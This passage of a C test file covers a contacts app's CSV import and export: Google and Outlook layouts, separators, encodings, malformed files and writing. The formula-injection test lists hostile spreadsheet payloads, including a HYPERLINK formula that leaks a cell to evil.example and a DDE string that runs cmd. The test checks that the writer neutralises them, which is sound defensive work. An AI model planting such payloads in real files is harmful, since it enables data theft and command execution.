/* test-csv.c — the CSV reader and writer
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Each sample in samples/ was written for these tests from the layouts'
 * column names and RFC 4180: Google Contacts' old ("Given Name", "E-mail 1 -
 * Type") and new ("First Name", "E-mail 1 - Label") exports, Outlook's (with
 * a byte-order mark and semicolons, as a Romanian Windows writes it), a file
 * with Romanian column names that no program wrote, quoted cells with line
 * breaks, cells that a spreadsheet would run as formulas, and a malformed file.
 */

#include "config.h"

#include <locale.h>
#include <string.h>

#include "d360-csv.h"
#include "d360-vcard.h"
#include "interop-test-util.h"

static const char *const samples[] = {
  "google.csv", "google-new.csv", "outlook.csv", "generic-ro.csv", "quoted-newlines.csv",
  "formula-injection.csv",
};

static GPtrArray *
parse_ok (GBytes         *bytes,
          D360CsvLayout  *layout,
          GPtrArray     **problems)
{
  g_autoptr(GError) error = NULL;
  GPtrArray *contacts = d360_csv_parse (bytes, layout, problems, &error);

  g_assert_no_error (error);
  g_assert_nonnull (contacts);
  g_assert_nonnull (*problems);
  return contacts;
}

static GPtrArray *
parse_sample (const char     *name,
              D360CsvLayout  *layout,
              GPtrArray     **problems)
{
  g_autoptr(GBytes) bytes = load_sample (name);

  return parse_ok (bytes, layout, problems);
}

static GPtrArray *
parse_text (const char  *text,
            GPtrArray  **problems)
{
  g_autoptr(GBytes) bytes = g_bytes_new (text, strlen (text));

  return parse_ok (bytes, NULL, problems);
}

static D360ParsedContact *
contact_at (GPtrArray *contacts,
            guint      index)
{
  g_assert_cmpuint (index, <, contacts->len);
  return contacts->pdata[index];
}

/* ------------------------------------------------------------ layouts */

static void
test_google_old (void)
{
  g_autoptr(GBytes) bytes = load_sample ("google.csv");
  g_autoptr(GPtrArray) problems = NULL;
  D360CsvLayout layout = D360_CSV_LAYOUT_UNKNOWN;
  g_autoptr(GPtrArray) contacts = parse_ok (bytes, &layout, &problems);
  D360ParsedContact *c;

  g_assert_cmpint (layout, ==, D360_CSV_LAYOUT_GOOGLE);
  g_assert_cmpuint (problems->len, ==, 0);
  g_assert_cmpuint (contacts->len, ==, 3);

  c = contact_at (contacts, 0);
  g_assert_cmpuint (c->line, ==, 2);
  g_assert_cmpstr (c->full_name, ==, "Ion Popescu");
  g_assert_cmpstr (c->given_name, ==, "Ion");
  g_assert_cmpstr (c->family_name, ==, "Popescu");
  g_assert_cmpstr (c->organization, ==, "Ministerul Afacerilor Externe");
  g_assert_cmpstr (c->job_title, ==, "Director general");
  /* "* Work": Google's star is the preferred one; " ::: " joins several */
  g_assert_cmpuint (c->emails->len, ==, 3);
  g_assert_cmpstr (field_at (c->emails, 0)->value, ==, "ion.popescu@mae.example.ro");
  g_assert_cmphex (field_at (c->emails, 0)->types, ==,
                   D360_CONTACT_FIELD_WORK | D360_CONTACT_FIELD_PREF);
  g_assert_cmpstr (field_at (c->emails, 1)->value, ==, "ion@example.ro");
  g_assert_cmpstr (field_at (c->emails, 2)->value, ==, "ion.p@example.com");
  g_assert_cmphex (field_at (c->emails, 2)->types, ==, D360_CONTACT_FIELD_HOME);
  g_assert_cmpuint (c->phones->len, ==, 2);
  g_assert_cmphex (field_at (c->phones, 0)->types, ==, D360_CONTACT_FIELD_CELL);
  g_assert_cmpstr (field_at (c->phones, 1)->value, ==, "+40 21 319 2108");
  g_assert_cmphex (field_at (c->phones, 1)->types, ==, D360_CONTACT_FIELD_WORK);
  g_assert_cmpstr (c->address->street, ==, "Aleea Alexandru 31");
  g_assert_cmpstr (c->address->locality, ==, "București");
  g_assert_cmpstr (c->address->postal_code, ==, "011822");
  g_assert_cmpstr (c->address->country, ==, "România");
  /* a quoted cell over two lines, with a comma and a semicolon */
  g_assert_cmpstr (c->note, ==, "Întâlnire la Iași, 12 martie.\nDe revăzut acordul; urgent.");
  g_assert_cmpuint (c->categories->len, ==, 1);   /* "myContacts" is Google's own */
  g_assert_cmpstr (string_at (c->categories, 0), ==, "Parteneri");
  g_assert_cmpuint (c->languages->len, ==, 2);
  g_assert_cmpstr (string_at (c->languages, 1), ==, "fr");
  g_assert_cmpstr (c->birthday, ==, "1975-03-21");
  g_assert_cmpstr (c->website, ==, "https://www.mae.example.ro/ion");

  /* the quoted cells above span four lines */
  c = contact_at (contacts, 1);
  g_assert_cmpuint (c->line, ==, line_of (bytes, "Ștefania Țepeș", 1));
  g_assert_cmpuint (c->line, ==, 6);
  g_assert_cmpstr (c->honorific, ==, "Dr.");
  g_assert_cmpstr (c->full_name, ==, "Ștefania Țepeș-Bălănescu");
  g_assert_cmpstr (field_at (c->emails, 0)->label, ==, "Ambasadă");
  g_assert_cmphex (field_at (c->emails, 0)->types, ==, 0);
  g_assert_cmpstr (c->birthday, ==, "--06-30");   /* no year */

  /* no name at all: the organization names the contact */
  c = contact_at (contacts, 2);
  g_assert_null (c->given_name);
  g_assert_null (c->full_name);
  g_assert_cmpstr (d360_parsed_contact_get_display_name (c), ==,
                   "Consulatul General al României la Milano");
}

static void
test_google_new (void)
{
  g_autoptr(GPtrArray) problems = NULL;
  D360CsvLayout layout = D360_CSV_LAYOUT_UNKNOWN;
  g_autoptr(GPtrArray) contacts = parse_sample ("google-new.csv", &layout, &problems);
  D360ParsedContact *c;

  g_assert_cmpint (layout, ==, D360_CSV_LAYOUT_GOOGLE);
  g_assert_cmpuint (problems->len, ==, 0);
  g_assert_cmpuint (contacts->len, ==, 1);

  c = contact_at (contacts, 0);
  g_assert_cmpstr (c->given_name, ==, "Andrei Ștefan");   /* with the middle name */
  g_assert_cmpstr (c->family_name, ==, "Mureșanu");
  g_assert_cmpstr (c->full_name, ==, "Andrei Ștefan Mureșanu");
  g_assert_cmpstr (c->organization, ==, "Primăria Brașov");
  g_assert_cmpstr (c->job_title, ==, "Consilier");
  g_assert_cmpuint (c->emails->len, ==, 2);
  g_assert_cmphex (field_at (c->emails, 0)->types, ==,
                   D360_CONTACT_FIELD_WORK | D360_CONTACT_FIELD_PREF);
  g_assert_cmphex (field_at (c->emails, 1)->types, ==, D360_CONTACT_FIELD_OTHER);
  g_assert_cmpstr (field_at (c->phones, 0)->value, ==, "0744 111 222");
  g_assert_cmphex (field_at (c->phones, 0)->types, ==, D360_CONTACT_FIELD_CELL);
  g_assert_cmpstr (c->address->street, ==, "Bd. Eroilor 8");
  g_assert_cmpstr (c->address->locality, ==, "Brașov");
  g_assert_cmpstr (c->address->country, ==, "România");
  /* "Labels" replaced "Group Membership" */
  g_assert_cmpuint (c->categories->len, ==, 2);
  g_assert_cmpstr (string_at (c->categories, 0), ==, "Parteneri");
  g_assert_cmpstr (string_at (c->categories, 1), ==, "Transilvania");
  g_assert_cmpstr (c->birthday, ==, "1982-07-09");
}

static void
test_outlook (void)
{
  g_autoptr(GBytes) bytes = load_sample ("outlook.csv");
  g_autoptr(GPtrArray) problems = NULL;
  D360CsvLayout layout = D360_CSV_LAYOUT_UNKNOWN;
  g_autoptr(GPtrArray) contacts = NULL;
  D360ParsedContact *c;

  /* the sample has a byte-order mark and semicolons */
  g_assert_true (memcmp (g_bytes_get_data (bytes, NULL), "\xEF\xBB\xBF" "Title;", 9) == 0);
  contacts = parse_ok (bytes, &layout, &problems);
  g_assert_cmpint (layout, ==, D360_CSV_LAYOUT_OUTLOOK);
  g_assert_cmpuint (problems->len, ==, 0);
  g_assert_cmpuint (contacts->len, ==, 2);

  c = contact_at (contacts, 0);
  g_assert_cmpuint (c->line, ==, 2);
  g_assert_cmpstr (c->honorific, ==, "Dl.");   /* Outlook's "Title" */
  g_assert_cmpstr (c->full_name, ==, "Radu Dumitrescu");
  g_assert_cmpstr (c->organization, ==, "Agenția pentru Dezvoltare Regională Nord-Est");
  g_assert_cmpstr (c->job_title, ==, "Șef serviciu");
  g_assert_cmpstr (c->address->street, ==, "Str. Ștefan cel Mare 2\nEtaj 3");
  g_assert_cmpstr (c->address->locality, ==, "Piatra Neamț");
  g_assert_cmpstr (c->address->region, ==, "Neamț");
  g_assert_cmpstr (c->address->country, ==, "România");
  g_assert_cmpuint (c->phones->len, ==, 3);
  g_assert_cmphex (field_at (c->phones, 0)->types, ==,
                   D360_CONTACT_FIELD_WORK | D360_CONTACT_FIELD_FAX);
  g_assert_cmphex (field_at (c->phones, 1)->types, ==, D360_CONTACT_FIELD_WORK);
  g_assert_cmphex (field_at (c->phones, 2)->types, ==, D360_CONTACT_FIELD_CELL);
  g_assert_cmpstr (c->note, ==, "Întâlnire la Iași;\nconfirmată de secretariat.");
  g_assert_cmpuint (c->categories->len, ==, 2);
  g_assert_cmpstr (string_at (c->categories, 1), ==, "Prioritar");
  g_assert_cmpstr (string_at (c->languages, 0), ==, "ro");
  g_assert_cmpstr (c->birthday, ==, "1978-04-15");   /* "15.04.1978", day first */
  g_assert_cmpstr (c->website, ==, "https://adr.example.ro");

  /* the note's CRLF inside quotes counts as a line */
  c = contact_at (contacts, 1);
  g_assert_cmpuint (c->line, ==, 4);
  g_assert_cmpstr (c->given_name, ==, "Ioana Maria");
  g_assert_cmpstr (c->full_name, ==, "Ioana Maria Mureșan");
  g_assert_cmpuint (c->emails->len, ==, 2);
  g_assert_cmpstr (field_at (c->emails, 1)->value, ==, "ioana@example.com");
  g_assert_cmphex (field_at (c->phones, 0)->types, ==, D360_CONTACT_FIELD_HOME);
  g_assert_cmphex (field_at (c->phones, 1)->types, ==, D360_CONTACT_FIELD_OTHER);
  /* the home address, when there is no business one */
  g_assert_cmpstr (c->address->street, ==, "Str. Mărășești 5");
  g_assert_cmpstr (c->address->locality, ==, "Timișoara");
  g_assert_cmpstr (c->birthday, ==, "1988-02-29");   /* "2/29/1988", month first */
}

static void
test_unknown_layout (void)
{
  g_autoptr(GBytes) bytes = load_sample ("generic-ro.csv");
  g_autoptr(GPtrArray) problems = NULL;
  g_autoptr(GPtrArray) contacts = NULL;
  g_autoptr(D360CsvTable) table = NULL;
  g_autoptr(GError) error = NULL;
  int fields[11];
  D360CsvLayout layout;
  D360ParsedContact *c;
  static const int expected[] = {
    D360_CSV_FIELD_FAMILY_NAME, D360_CSV_FIELD_GIVEN_NAME, D360_CSV_FIELD_ORGANIZATION,
    D360_CSV_FIELD_JOB_TITLE, D360_CSV_FIELD_EMAIL, D360_CSV_FIELD_PHONE_CELL,
    D360_CSV_FIELD_LOCALITY, D360_CSV_FIELD_REGION, D360_CSV_FIELD_COUNTRY,
    D360_CSV_FIELD_NOTE, D360_CSV_FIELD_IGNORE,
  };

  /* the table a mapping dialog shows */
  table = d360_csv_table_read (bytes, 0, &problems, &error);
  g_assert_no_error (error);
  g_assert_cmpint (table->separator, ==, ';');
  g_assert_cmpuint (table->n_columns, ==, 11);
  g_assert_cmpstr (table->header[2], ==, "Instituție");
  g_assert_cmpstr (table->header[10], ==, "Culoare preferată");
  g_assert_null (table->header[11]);
  g_assert_cmpuint (table->rows->len, ==, 2);
  g_assert_cmpstr (((D360CsvRow *) table->rows->pdata[0])->cells[9], ==,
                   "Întâlnire în martie; \"urgent\"");
  g_assert_cmpuint (problems->len, ==, 0);

  /* Romanian column names, guessed */
  layout = d360_csv_table_guess_mapping (table, fields);
  g_assert_cmpint (layout, ==, D360_CSV_LAYOUT_UNKNOWN);
  for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
    g_assert_cmpint (fields[i], ==, expected[i]);

  contacts = d360_csv_table_to_contacts (table, fields, G_N_ELEMENTS (fields), problems);
  g_assert_cmpuint (contacts->len, ==, 2);
  c = contact_at (contacts, 0);
  g_assert_cmpstr (c->full_name, ==, "Ștefan Țepeș");
  g_assert_cmpstr (c->organization, ==, "Primăria Timișoara");
  g_assert_cmphex (field_at (c->phones, 0)->types, ==, D360_CONTACT_FIELD_CELL);
  g_assert_cmpstr (c->address->region, ==, "Timiș");
  g_assert_cmpuint (c->categories->len, ==, 0);
  g_clear_pointer (&contacts, g_ptr_array_unref);
  g_clear_pointer (&problems, g_ptr_array_unref);

  /* the user's own choices: the colour is a category, "Funcție" the role,
   * and the phone column is left out */
  fields[3] = D360_CSV_FIELD_ROLE;
  fields[5] = D360_CSV_FIELD_IGNORE;
  fields[10] = D360_CSV_FIELD_CATEGORIES;
  contacts = d360_csv_parse_with_mapping (bytes, 0, fields, G_N_ELEMENTS (fields), &problems,
                                          &error);
  g_assert_no_error (error);
  g_assert_cmpuint (problems->len, ==, 0);
  g_assert_cmpuint (contacts->len, ==, 2);
  c = contact_at (contacts, 0);
  g_assert_null (c->job_title);
  g_assert_cmpstr (c->role, ==, "Consilier");
  g_assert_cmpuint (c->phones->len, ==, 0);
  g_assert_cmpstr (string_at (c->categories, 0), ==, "albastru");
  c = contact_at (contacts, 1);
  g_assert_cmpuint (c->line, ==, 3);
  g_assert_cmpstr (c->full_name, ==, "Ana Ionescu");
  g_assert_cmpstr (string_at (c->categories, 0), ==, "verde");
  g_clear_pointer (&contacts, g_ptr_array_unref);
  g_clear_pointer (&problems, g_ptr_array_unref);

  /* fewer fields than columns: the rest are not imported */
  contacts = d360_csv_parse_with_mapping (bytes, ';', fields, 2, &problems, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (contacts->len, ==, 2);
  g_assert_cmpstr (contact_at (contacts, 0)->full_name, ==, "Ștefan Țepeș");
  g_assert_null (contact_at (contacts, 0)->organization);
  g_assert_cmpuint (contact_at (contacts, 0)->emails->len, ==, 0);

  /* every field has a title for the dialog */
  for (int f = 0; f < D360_CSV_N_FIELDS; f++)
    {
      const char *title = d360_csv_field_get_title (f);

      g_assert_nonnull (title);
      g_assert_cmpstr (title, !=, "");
    }
  g_assert_cmpstr (d360_csv_field_get_title (D360_CSV_FIELD_IGNORE), ==, "Do not import");
}

/* ------------------------------------------------------------ the format */

static void
test_quoted_newlines (void)
{
  g_autoptr(GBytes) bytes = load_sample ("quoted-newlines.csv");
  g_autoptr(GPtrArray) problems = NULL;
  g_autoptr(GPtrArray) contacts = parse_ok (bytes, NULL, &problems);
  D360ParsedContact *c;

  g_assert_cmpuint (contacts->len, ==, 4);

  /* a separator, CRLF and LF line breaks and doubled quotes inside quotes */
  c = contact_at (contacts, 0);
  g_assert_cmpuint (c->line, ==, 2);
  g_assert_cmpstr (c->full_name, ==, "Popescu, Ion");
  g_assert_cmpstr (c->note, ==, "Prima linie\na doua linie, cu virgulă\nși \"ghilimele\"");

  c = contact_at (contacts, 1);
  g_assert_cmpuint (c->line, ==, 5);
  g_assert_cmpstr (c->note, ==, "Notă pe un rând");

  /* a blank line is skipped; a line break inside a name */
  c = contact_at (contacts, 2);
  g_assert_cmpuint (c->line, ==, 7);
  g_assert_cmpstr (c->full_name, ==, "Ana\nMaria");
  g_assert_cmpstr (field_at (c->phones, 0)->value, ==, "0722000000");

  c = contact_at (contacts, 3);
  g_assert_cmpuint (c->line, ==, line_of (bytes, "Vasile", 1));
  g_assert_cmpstr (c->note, ==, "Ultima notă: ță");

  /* "Rând,greșit" has two cells of four; the empty last row is skipped */
  g_assert_cmpuint (problems->len, ==, 1);
  assert_problem (problems, 0, line_of (bytes, "Rând,greșit", 1), TRUE, "(2) differs");
}

static void
test_separators (void)
{
  static const char *const texts[] = {
    "Name,Email,Notes\r\nȘtefan Țară,s@example.ro,\"unu, doi; trei\"\r\n",
    "Name;Email;Notes\r\nȘtefan Țară;s@example.ro;\"unu, doi; trei\"\r\n",
    "Name\tEmail\tNotes\nȘtefan Țară\ts@example.ro\tunu, doi; trei\n",
    "sep=;\r\nName;Email;Notes\r\nȘtefan Țară;s@example.ro;\"unu, doi; trei\"\r\n",
    "sep=,\nName,Email,Notes\nȘtefan Țară,s@example.ro,\"unu, doi; trei\"",
    /* more commas than semicolons in the header would say ',': sep= wins */
    "sep=;\nName, given;Email;Notes\nȘtefan Țară;s@example.ro;\"unu, doi; trei\"\n",
  };

  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    {
      g_autoptr(GPtrArray) problems = NULL;
      g_autoptr(GPtrArray) contacts = NULL;
      D360ParsedContact *c;

      g_test_message ("text %u", i);
      contacts = parse_text (texts[i], &problems);
      g_assert_cmpuint (problems->len, ==, 0);
      g_assert_cmpuint (contacts->len, ==, 1);
      c = contact_at (contacts, 0);
      g_assert_cmpuint (c->line, ==, i >= 3 ? 3 : 2);
      if (i < 5)
        g_assert_cmpstr (c->full_name, ==, "Ștefan Țară");
      g_assert_cmpstr (field_at (c->emails, 0)->value, ==, "s@example.ro");
      g_assert_cmpstr (c->note, ==, "unu, doi; trei");
    }
}

static void
test_bom (void)
{
  static const char *const names[] = { "google.csv", "outlook.csv", "generic-ro.csv" };

  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      g_autoptr(GBytes) bytes = load_sample (names[i]);
      gsize len = 0;
      const char *data = g_bytes_get_data (bytes, &len);
      gboolean has_bom = len >= 3 && memcmp (data, "\xEF\xBB\xBF", 3) == 0;
      g_autoptr(GString) other = g_string_new (NULL);
      g_autoptr(GBytes) other_bytes = NULL;
      g_autoptr(GPtrArray) problems = NULL;
      g_autoptr(GPtrArray) other_problems = NULL;
      g_autoptr(GPtrArray) contacts = NULL;
      g_autoptr(GPtrArray) other_contacts = NULL;
      D360CsvLayout layout, other_layout;

      /* the same file with the byte-order mark added or taken away */
      if (has_bom)
        g_string_append_len (other, data + 3, len - 3);
      else
        {
          g_string_append (other, "\xEF\xBB\xBF");
          g_string_append_len (other, data, len);
        }
      other_bytes = g_bytes_new (other->str, other->len);

      contacts = parse_ok (bytes, &layout, &problems);
      other_contacts = parse_ok (other_bytes, &other_layout, &other_problems);
      g_assert_cmpint (layout, ==, other_layout);
      g_assert_cmpuint (contacts->len, >, 0);
      g_assert_cmpuint (problems->len, ==, other_problems->len);
      assert_contact_lists_equal (contacts, other_contacts);
    }
}

static void
test_utf16 (void)
{
  g_autoptr(GBytes) bytes = load_sample ("google.csv");
  g_autoptr(GPtrArray) problems = NULL;
  g_autoptr(GPtrArray) expected = parse_ok (bytes, NULL, &problems);

  for (guint i = 0; i < 2; i++)
    {
      const char *charset = i == 0 ? "UTF-16LE" : "UTF-16BE";
      g_autoptr(GString) utf16 = g_string_new_len (i == 0 ? "\xFF\xFE" : "\xFE\xFF", 2);
      g_autoptr(GPtrArray) problems16 = NULL;
      g_autoptr(GPtrArray) contacts = NULL;
      g_autoptr(GBytes) bytes16 = NULL;
      g_autofree char *converted = NULL;
      D360CsvLayout layout;
      gsize written = 0;

      converted = g_convert (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), charset,
                             "UTF-8", NULL, &written, NULL);
      g_assert_nonnull (converted);
      g_string_append_len (utf16, converted, written);
      bytes16 = g_bytes_new (utf16->str, utf16->len);
      contacts = parse_ok (bytes16, &layout, &problems16);
      g_assert_cmpint (layout, ==, D360_CSV_LAYOUT_GOOGLE);
      assert_contact_lists_equal (contacts, expected);
    }
}

/* ------------------------------------------------------------ errors */

static void
test_malformed (void)
{
  g_autoptr(GBytes) bytes = load_sample ("malformed.csv");
  g_autoptr(GPtrArray) problems = NULL;
  g_autoptr(GPtrArray) contacts = parse_ok (bytes, NULL, &problems);

  /* the good rows around the bad ones are all there */
  g_assert_cmpuint (contacts->len, ==, 4);
  g_assert_cmpstr (contact_at (contacts, 0)->full_name, ==, "Good One");
  g_assert_cmpstr (contact_at (contacts, 0)->birthday, ==, "1980-01-02");
  g_assert_cmpstr (contact_at (contacts, 1)->full_name, ==, "Bad Date");
  g_assert_cmpuint (contact_at (contacts, 1)->line, ==, 4);
  g_assert_null (contact_at (contacts, 1)->birthday);
  g_assert_cmpstr (contact_at (contacts, 2)->full_name, ==, "Spans\ntwo lines");
  g_assert_cmpuint (contact_at (contacts, 2)->line, ==, 8);
  /* empty cells after the last column do not count */
  g_assert_cmpstr (contact_at (contacts, 3)->full_name, ==, "Trailing");
  g_assert_cmpuint (contact_at (contacts, 3)->line, ==, 10);

  g_assert_cmpuint (problems->len, ==, 6);
  assert_problem (problems, 0, 3, TRUE, "The number of cells in this row (5) differs from the "
                                        "header (4)");
  assert_problem (problems, 1, 4, FALSE, "The birthday “32.13.1999” is not a date");
  assert_problem (problems, 2, 5, TRUE, "not UTF-8");
  assert_problem (problems, 3, 6, TRUE, "no name, email address or phone number");
  assert_problem (problems, 4, 7, TRUE, "(2) differs");
  assert_problem (problems, 5, 11, TRUE, "never closed");
}

static void
test_empty (void)
{
  static const char *const texts[] = { "", " ", "\r\n\r\n\t \n", "\xEF\xBB\xBF", "\xEF\xBB\xBF\r\n" };

  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    {
      g_autoptr(GBytes) bytes = g_bytes_new_static (texts[i], strlen (texts[i]));
      g_autoptr(GPtrArray) problems = NULL;
      g_autoptr(GError) error = NULL;
      g_autoptr(GPtrArray) contacts = d360_csv_parse (bytes, NULL, &problems, &error);
      g_autoptr(D360CsvTable) table = NULL;

      g_assert_error (error, D360_IMPORT_ERROR, D360_IMPORT_ERROR_EMPTY);
      g_assert_cmpstr (error->message, ==, "The file is empty.");
      g_assert_null (contacts);
      g_assert_null (problems);
      g_clear_error (&error);

      table = d360_csv_table_read (bytes, 0, &problems, &error);
      g_assert_error (error, D360_IMPORT_ERROR, D360_IMPORT_ERROR_EMPTY);
      g_assert_null (table);
    }

  /* a header and nothing else is a file without contacts, not an error */
  {
    g_autoptr(GPtrArray) problems = NULL;
    g_autoptr(GPtrArray) contacts = parse_text ("Name,Email\r\n", &problems);

    g_assert_cmpuint (contacts->len, ==, 0);
    g_assert_cmpuint (problems->len, ==, 0);
  }
}

static void
test_binary (void)
{
  static const guchar png[] = { 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13 };
  static const guchar zip[] = { 'P', 'K', 3, 4, 20, 0, 0, 0, 8, 0, 'a', ',', 'b', '\n' };
  static const guchar utf16_bad[] = { 0xFF, 0xFE, 'A', 0, 0x00, 0xD8, '\n' };   /* lone surrogate */
  static const char unclosed[] = "\"Name,Email\nIon,ion@example.ro\n";
  static const struct
  {
    const void *data;
    gsize       len;
  } files[] = {
    { png, sizeof png },
    { zip, sizeof zip },
    { utf16_bad, sizeof utf16_bad },
    { unclosed, sizeof unclosed - 1 },
  };

  for (guint i = 0; i < G_N_ELEMENTS (files); i++)
    {
      g_autoptr(GBytes) bytes = g_bytes_new_static (files[i].data, files[i].len);
      g_autoptr(GPtrArray) problems = NULL;
      g_autoptr(GError) error = NULL;
      g_autoptr(GPtrArray) contacts = d360_csv_parse (bytes, NULL, &problems, &error);

      g_test_message ("file %u", i);
      g_assert_error (error, D360_IMPORT_ERROR, D360_IMPORT_ERROR_NOT_CSV);
      g_assert_cmpstr (error->message, ==, "This is not a CSV file.");
      g_assert_null (contacts);
      g_assert_null (problems);
    }
}

/* ------------------------------------------------------------ writing */

/* The cells of a written file, as the reader sees them before any
 * neutralising "'" is taken away. */
static D360CsvTable *
read_written (GBytes *bytes)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) problems = NULL;
  D360CsvTable *table = d360_csv_table_read (bytes, 0, &problems, &error);

  g_assert_no_error (error);
  g_assert_cmpuint (problems->len, ==, 0);
  return table;
}

static void
test_write_format (void)
{
  g_autoptr(GPtrArray) contacts = g_ptr_array_new_with_free_func (
    (GDestroyNotify) d360_parsed_contact_free);
  D360ParsedContact *c = d360_parsed_contact_new ();
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(D360CsvTable) table = NULL;
  const char *data;
  D360CsvRow *row;
  int fields[32];

  c->given_name = g_strdup ("Ștefan");
  c->family_name = g_strdup ("Țară");
  c->note = g_strdup ("Rândul 1; cu \"ghilimele\", virgulă\nRândul 2");
  d360_parsed_contact_add_email (c, "s@example.ro", D360_CONTACT_FIELD_WORK | D360_CONTACT_FIELD_PREF,
                                 NULL);
  d360_parsed_contact_add_email (c, "t@example.ro", 0, "Asistent");
  d360_parsed_contact_add_phone (c, "0722 000 000", D360_CONTACT_FIELD_CELL, NULL);
  g_ptr_array_add (c->categories, g_strdup ("Parteneri, ONG"));
  g_ptr_array_add (contacts, c);

  bytes = d360_csv_write (contacts, ';');
  data = g_bytes_get_data (bytes, NULL);
  /* UTF-8 with a byte-order mark, CRLF, Google's column names */
  g_assert_true (g_str_has_prefix (data, "\xEF\xBB\xBF" "Name;Name Prefix;Given Name;"));
  g_assert_true (g_str_has_suffix (data, "\r\n"));
  g_assert_true (g_utf8_validate_len (data, g_bytes_get_size (bytes), NULL));
  g_assert_nonnull (strstr (data, ";\"Rândul 1; cu \"\"ghilimele\"\", virgulă\nRândul 2\";"));
  g_assert_nonnull (strstr (data, ";* Work;s@example.ro;Asistent;t@example.ro;Mobile;0722 000 000;"));

  table = read_written (bytes);
  g_assert_cmpint (table->separator, ==, ';');
  g_assert_cmpint (d360_csv_table_guess_mapping (table, fields), ==, D360_CSV_LAYOUT_GOOGLE);
  g_assert_cmpuint (table->rows->len, ==, 1);
  row = table->rows->pdata[0];
  g_assert_cmpstr (row->cells[0], ==, "Ștefan Țară");
  /* one category with a comma keeps its comma when read back */
  {
    g_autoptr(GPtrArray) problems = NULL;
    g_autoptr(GPtrArray) again = parse_ok (bytes, NULL, &problems);

    assert_contact_lists_equal (again, contacts);
    g_assert_cmpstr (string_at (contact_at (again, 0)->categories, 0), ==, "Parteneri, ONG");
  }

  /* ":::" inside one value would make it two when read back: a run of
   * colons gets a space after every second one */
  d360_parsed_contact_add_phone (c, "021:::555", 0, "a:::::b");
  g_ptr_array_add (c->categories, g_strdup ("x::::::y"));
  {
    g_autoptr(GBytes) written = d360_csv_write (contacts, ',');
    g_autoptr(GPtrArray) problems = NULL;
    g_autoptr(GPtrArray) again = parse_ok (written, NULL, &problems);
    D360ParsedContact *a = contact_at (again, 0);

    g_assert_cmpuint (a->phones->len, ==, 2);
    g_assert_cmpstr (field_at (a->phones, 1)->value, ==, "021:: :555");
    g_assert_cmpstr (field_at (a->phones, 1)->label, ==, "a:: :: :b");
    g_assert_cmpuint (a->categories->len, ==, 2);
    g_assert_cmpstr (string_at (a->categories, 1), ==, "x:: :: ::y");
  }
}

static void
test_formula_injection (void)
{
  g_autoptr(GPtrArray) problems = NULL;
  g_autoptr(GPtrArray) contacts = parse_sample ("formula-injection.csv", NULL, &problems);
  D360ParsedContact *c = d360_parsed_contact_new ();
  static const char *const dangerous[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+40 21 000 0000", "-5", "+1+1", "=1+2", "=ț", "\t=2+3", "'=6+7",
    "''-8",
    "\n=4+5",   /* "\r=4+5": the reader makes a line break inside quotes "\n" */
  };

  g_assert_cmpuint (problems->len, ==, 0);
  g_assert_cmpuint (contacts->len, ==, 4);
  g_assert_cmpstr (contact_at (contacts, 0)->full_name, ==,
                   "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");

  /* cells starting with a tab, a carriage return, or an apostrophe of their own */
  c->full_name = g_strdup ("Control Chars");
  c->note = g_strdup ("\t=2+3");
  c->job_title = g_strdup ("\r=4+5");
  c->role = g_strdup ("'=6+7");
  c->honorific = g_strdup ("''-8");
  c->website = g_strdup ("'");
  c->organization = g_strdup ("'ok, no formula");
  g_ptr_array_add (contacts, c);

  for (guint s = 0; s < 2; s++)
    {
      char separator = s == 0 ? ',' : ';';
      g_autoptr(GBytes) bytes = d360_csv_write (contacts, separator);
      g_autoptr(D360CsvTable) table = read_written (bytes);
      g_autoptr(GPtrArray) again = NULL;
      g_autoptr(GPtrArray) problems2 = NULL;
      guint n_neutralized = 0;

      /* no cell of the file starts with a formula character */
      for (guint r = 0; r < table->rows->len; r++)
        {
          D360CsvRow *row = table->rows->pdata[r];

          for (guint i = 0; i < row->n_cells; i++)
            {
              const char *cell = row->cells[i];

              g_assert_null (strchr ("=+-@\t\r", cell[0] != '\0' ? cell[0] : 'x'));
              for (guint d = 0; d < G_N_ELEMENTS (dangerous); d++)
                if (cell[0] == '\'' && strcmp (cell + 1, dangerous[d]) == 0)
                  n_neutralized++;
            }
        }
      /* the 7 cells of the sample and the 4 above, each with its "'" */
      g_assert_cmpuint (n_neutralized, ==, G_N_ELEMENTS (dangerous));
      g_assert_nonnull (strstr (g_bytes_get_data (bytes, NULL), "'ok, no formula"));
      g_assert_null (strstr (g_bytes_get_data (bytes, NULL), "''ok"));

      /* and the reader gives the values back as they were */
      again = parse_ok (bytes, NULL, &problems2);
      g_assert_cmpuint (problems2->len, ==, 0);
      g_assert_cmpuint (again->len, ==, contacts->len);
      for (guint i = 0; i < 4; i++)
        assert_text_fields_equal (again->pdata[i], contacts->pdata[i]);
      c = contact_at (again, 4);
      g_assert_cmpstr (c->note, ==, "=2+3");        /* white space is trimmed on reading */
      g_assert_cmpstr (c->job_title, ==, "=4+5");
      g_assert_cmpstr (c->role, ==, "'=6+7");
      g_assert_cmpstr (c->honorific, ==, "''-8");
      g_assert_cmpstr (c->website, ==, "'");
      g_assert_cmpstr (c->organization, ==, "'ok, no formula");
    }
}

static void
test_round_trip (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (samples); i++)
    {
      for (guint s = 0; s < 3; s++)
        {
          char separator = ",;\t"[s];
          g_autoptr(GPtrArray) problems = NULL;
          g_autoptr(GPtrArray) problems2 = NULL;
          g_autoptr(GPtrArray) first = parse_sample (samples[i], NULL, &problems);
          g_autoptr(GBytes) written = d360_csv_write (first, separator);
          D360CsvLayout layout = D360_CSV_LAYOUT_UNKNOWN;
          g_autoptr(GPtrArray) second = parse_ok (written, &layout, &problems2);
          g_autoptr(GBytes) rewritten = d360_csv_write (second, separator);

          g_test_message ("%s, separator %d", samples[i], separator);
          g_assert_cmpint (layout, ==, D360_CSV_LAYOUT_GOOGLE);
          g_assert_cmpuint (problems2->len, ==, 0);
          assert_contact_lists_equal (first, second);
